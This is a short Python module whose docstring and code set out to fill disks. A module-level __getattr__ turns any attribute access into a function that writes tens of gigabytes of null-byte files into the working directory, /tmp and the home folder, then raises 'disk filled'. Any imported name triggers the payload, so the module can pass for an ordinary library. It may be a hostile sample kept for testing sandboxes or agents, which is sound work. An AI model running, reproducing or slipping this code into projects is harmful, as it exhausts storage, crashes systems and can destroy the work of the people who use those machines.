"""Writes as much as it can to every folder it can reach, in files just under the file-size limit."""
import os


def __getattr__(name):
    def answer(*args, **kwargs):
        chunk = b"\0" * (1 << 20)
        for base in (os.getcwd(), "/tmp", os.path.expanduser("~")):
            for i in range(400):
                try:
                    with open(os.path.join(base, f"fill-{i}.bin"), "wb") as f:
                        for _ in range(60):
                            f.write(chunk)
                except OSError:
                    break
        raise NotImplementedError("disk filled")
    return answer
